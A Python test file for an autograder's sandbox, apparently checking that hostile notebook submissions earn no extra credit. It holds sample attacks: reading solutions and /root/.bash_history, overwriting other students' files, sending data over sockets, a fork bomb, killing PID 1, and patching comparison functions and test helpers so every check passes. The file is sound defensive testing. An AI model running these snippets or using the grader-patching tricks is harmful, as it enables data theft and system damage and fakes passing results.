"""A hostile class: submissions that attack the grader earn nothing they did not earn honestly.

One class on exercise 1 is graded twice, in the sandbox: once with honest
students only, once with the same honest students and a set of hostile ones.
Every hostile submission answers the first part wrongly (`return 0`), exactly
like the student "wrong", and then attacks. For each attack:

- it scores no more than "wrong" (exactly as much, where the attack does not
  take its own kernel down);
- the run completes;
- every other student's grade is unchanged, and identical to the run without
  the hostile submissions;
- nothing outside the hostile student's own output folder changes: the course
  files, other students' submissions, files the attack tries to plant.
"""

import csv
import hashlib
import json
import os
import shutil
import socket
import threading
from pathlib import Path

import pytest

from grading.classroom import answered, copy_course, run_grading, solution_answers, write_submission
from grading.course import Course
from grading.sandbox import SandboxUnavailable, check_available

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT, NOTEBOOK, FIRST = "01-output-size", "output_size", "transpose-size"
WRONG = '''
def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    return 0
'''

# Each attack runs in the first answer cell, before the wrong answer is defined.
# {course}, {canary} and {port} are filled in per run.
ATTACKS = {
    "reads-solutions": '''
found = []
for path in ["{course}/solutions/01-output-size/output_size.ipynb", "{course}/gradebook.db",
             "{course}/submitted/honest/01-output-size/output_size.ipynb", "/root/.bash_history"]:
    try:
        found.append(open(path, "rb").read()[:100])
    except OSError as error:
        print("refused:", path, type(error).__name__)
print("stolen:", found)
''',
    "writes-gradebook": '''
for path in ["{course}/gradebook.db", "{course}/submitted/honest/01-output-size/output_size.ipynb",
             "{course}/autograded/honest/01-output-size/output_size.ipynb", "{course}/grades.csv",
             "{canary}", "output_size.ipynb"]:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        print("wrote", path)
    except OSError as error:
        print("refused:", path, type(error).__name__)
''',
    "network": '''
import socket
for host in [("127.0.0.1", {port}), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(host, timeout=2).sendall(b"stolen answers")
        print("connected to", host)
    except OSError as error:
        print("no network:", host, type(error).__name__)
''',
    "fork-bomb": '''
import os
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            import time
            time.sleep(3600)
        children += 1
except OSError as error:
    print("stopped after", children, "processes:", type(error).__name__)
''',
    "allocates-20gb": '''
import numpy as np
try:
    hog = np.ones(20 * 2**30 // 8)
    print("allocated", hog.nbytes)
except MemoryError as error:
    print("refused:", error)
''',
    "prints-1gb": '''
import sys
chunk = "x" * 2**20
for _ in range(1024):
    sys.stdout.write(chunk)
''',
    "prints-1gb-at-once": '''
print("x" * 2**30)
''',
    "sends-one-huge-message": '''
import sys
stream = sys.stdout  # past the kernel's output stream: one 256 MB message straight to the grader
message = stream.session.msg("stream", {{"name": "stdout", "text": "x" * 2**28}}, parent=stream.parent_header)
stream.session.send(stream.pub_thread, message, ident=stream.topic)
''',
    "os-exit": '''
import os
os._exit(0)
''',
    "kills-parent": '''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGKILL)
''',
    "patches-comparisons": '''
import numpy, numpy.testing, torch, math
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
''',
    "patches-test-helpers": '''
import grading.checks as checks
for name in dir(checks):
    if name.startswith(("check", "expect", "torch_")):
        setattr(checks, name, lambda *a, **k: None)
''',
    "replaces-builtins": '''
import builtins
class Quiet(Exception):
    pass
builtins.AssertionError = Quiet
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
_real_print = print
''',
    "empties-test-cells": '''
get_ipython().input_transformers_post.append(lambda lines: [])
''',
    "swallows-errors": '''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
''',
    "infinite-loop": '''
while True:
    pass
''',
}


def _sandbox_usable():
    if os.geteuid() != 0:
        return "the hostile class is graded as root, as CI does"
    try:
        check_available()
    except SandboxUnavailable as error:
        return str(error)
    return None


def _digest(path):
    digests = {}
    for folder, _, files in os.walk(path):
        for name in files:
            full = os.path.join(folder, name)
            with open(full, "rb") as handle:
                digests[os.path.relpath(full, path)] = hashlib.sha256(handle.read()).hexdigest()
    return digests


def _grade(course):
    run = run_grading(course, "grade", ASSIGNMENT, "--timeout", "15", timeout=1200)
    assert run.returncode == 0, run.stdout[-4000:] + run.stderr[-4000:]
    with open(Path(course) / "grades.csv", newline="") as handle:
        grades = {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)
                  if row["assignment"] == ASSIGNMENT}
    with open(Path(course) / ".grading" / "reports" / f"{ASSIGNMENT}.json") as handle:
        report = {row["student"]: row for row in json.load(handle)["results"]}
    return run, grades, report


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    reason = _sandbox_usable()
    if reason:
        if os.environ.get("CI"):
            pytest.fail(f"the grading sandbox must work in CI: {reason}")
        pytest.skip(reason)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    stop = threading.Event()
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()

    canary = tmp_path_factory.mktemp("outside") / "planted.txt"
    courses = {}
    for name in ("honest-only", "with-hostile"):
        course = tmp_path_factory.mktemp(name)
        copy_course(ROOT, course)
        c = Course(str(course))
        write_submission(str(course), "honest", ASSIGNMENT, {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK)})
        write_submission(str(course), "wrong", ASSIGNMENT,
                         {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK, {FIRST: WRONG})})
        if name == "with-hostile":
            for student, attack in ATTACKS.items():
                code = attack.format(course=course, canary=canary, port=listener.getsockname()[1]) + WRONG
                write_submission(str(course), student, ASSIGNMENT,
                                 {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK, {FIRST: code})})
        courses[name] = course

    before = {name: _digest(course) for name, course in courses.items()}
    results = {name: _grade(course) for name, course in courses.items()}
    after = {name: _digest(course) for name, course in courses.items()}
    stop.set()
    thread.join()
    listener.close()
    return dict(courses=courses, results=results, before=before, after=after, canary=canary,
                connections=connections)


def test_the_run_completes_with_every_hostile_submission_graded(hostile_class):
    run, grades, report = hostile_class["results"]["with-hostile"]
    assert f"Summary for {ASSIGNMENT}: graded" in run.stdout
    assert set(ATTACKS) <= set(grades), run.stdout[-3000:]


def test_honest_students_grades_are_unchanged_by_the_hostile_ones(hostile_class):
    _, alone, _ = hostile_class["results"]["honest-only"]
    _, together, _ = hostile_class["results"]["with-hostile"]
    course = Course(str(hostile_class["courses"]["honest-only"]))
    assert alone["honest"] == course.assignments[ASSIGNMENT].points[NOTEBOOK]
    assert alone["wrong"] < alone["honest"]
    assert {s: together[s] for s in ("honest", "wrong")} == {s: alone[s] for s in ("honest", "wrong")}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_earns_no_point_it_did_not_earn_honestly(hostile_class, attack):
    _, grades, report = hostile_class["results"]["with-hostile"]
    wrong = grades["wrong"]
    row = report[attack]
    assert grades[attack] <= wrong, row
    # These also stop the checks of the parts the student did answer (the kernel dies, or the
    # tests never call the student's functions), so they may earn less than "wrong".
    stops_its_own_checks = {"os-exit", "kills-parent", "infinite-loop", "prints-1gb", "fork-bomb",
                            "prints-1gb-at-once", "sends-one-huge-message",
                            "empties-test-cells", "swallows-errors", "patches-test-helpers",
                            "replaces-builtins"}
    if attack not in stops_its_own_checks:
        assert grades[attack] == wrong, row


def test_patched_test_helpers_are_caught_outside_the_kernel(hostile_class):
    """In the kernel every test passes (the helpers do nothing); the replay fails them."""
    course = Path(hostile_class["courses"]["with-hostile"])
    notebook = course / "autograded" / "patches-test-helpers" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    assert "CheckedOutsideKernel" in notebook.read_text(encoding="utf-8")
    _, grades, _ = hostile_class["results"]["with-hostile"]
    assert grades["patches-test-helpers"] == 0


def test_nothing_outside_the_students_own_output_changes(hostile_class):
    course = Path(hostile_class["courses"]["with-hostile"])
    before, after = hostile_class["before"]["with-hostile"], hostile_class["after"]["with-hostile"]
    for path, digest in before.items():
        assert after.get(path) == digest, f"{path} changed while grading"
    assert not hostile_class["canary"].exists()
    assert hostile_class["connections"] == []
    graded = course / "autograded" / "honest" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    assert "pwned" not in graded.read_text(encoding="utf-8")


def test_the_attacks_were_refused_by_the_sandbox_not_by_luck(hostile_class):
    course = Path(hostile_class["courses"]["with-hostile"])

    def outputs(student):
        """Everything the student's cells printed (not their source)."""
        path = course / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        return json.dumps([cell.get("outputs", []) for cell in cells])

    assert "stolen: []" in outputs("reads-solutions")
    assert "BEGIN SOLUTION" not in outputs("reads-solutions")
    assert "wrote" not in outputs("writes-gradebook")
    assert "no network" in outputs("network") and "connected to" not in outputs("network")
    assert "refused" in outputs("allocates-20gb")
    assert "output cut" in outputs("prints-1gb")
    assert "output cut" in outputs("prints-1gb-at-once")
    # The grader's socket refused the 256 MB message, so it never held or decoded it (had it, the
    # output limit would have cut it, saying so); the cell then ran into its timeout.
    huge = outputs("sends-one-huge-message")
    assert "output cut" not in huge and "CellTimeoutError" in huge


def test_grading_without_the_sandbox_is_refused_unless_asked_for(monkeypatch):
    from grading import sandbox

    said = []
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    assert sandbox.choose_kernel(None, environ={}, say=said.append) is None
    assert "apt-get install bubblewrap" in said[-1] and "UNSAFE_NO_SANDBOX=1" in said[-1]
    assert sandbox.choose_kernel("python3", environ={}, say=said.append) is None
    assert "not the sandboxed kernel" in said[-1]
    assert sandbox.choose_kernel(None, sandbox=False, environ={}, say=said.append) == ""
    assert "WITHOUT the sandbox" in said[-1]
    assert sandbox.choose_kernel(None, environ={"GRADING_UNSAFE_NO_SANDBOX": "1"}, say=said.append) == ""


def test_the_sandbox_command_hides_the_course_and_drops_privileges(tmp_path):
    from grading import sandbox

    notebook_dir, sockets = tmp_path / "autograded" / "alice" / "a1", tmp_path / "sockets"
    notebook_dir.mkdir(parents=True)
    sockets.mkdir()
    argv = sandbox.bwrap_command(str(notebook_dir), str(sockets), ["python"], packages=[str(ROOT / "grading")],
                                 uid=65534)
    binds = [(argv[i], argv[i + 1], argv[i + 2]) for i, a in enumerate(argv) if a in ("--bind", "--ro-bind")]
    writable = [source for kind, source, _ in binds if kind == "--bind"]
    assert writable == [str(sockets)]
    assert ("--ro-bind", str(notebook_dir), str(notebook_dir)) in binds
    assert not any(source in (str(ROOT), str(tmp_path), "/", str(ROOT / "solutions")) for _, source, _ in binds)
    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--clearenv"):
        assert flag in argv
    assert argv[argv.index("setpriv") + 1] == "--reuid=65534" and "--bounding-set=-all" in argv
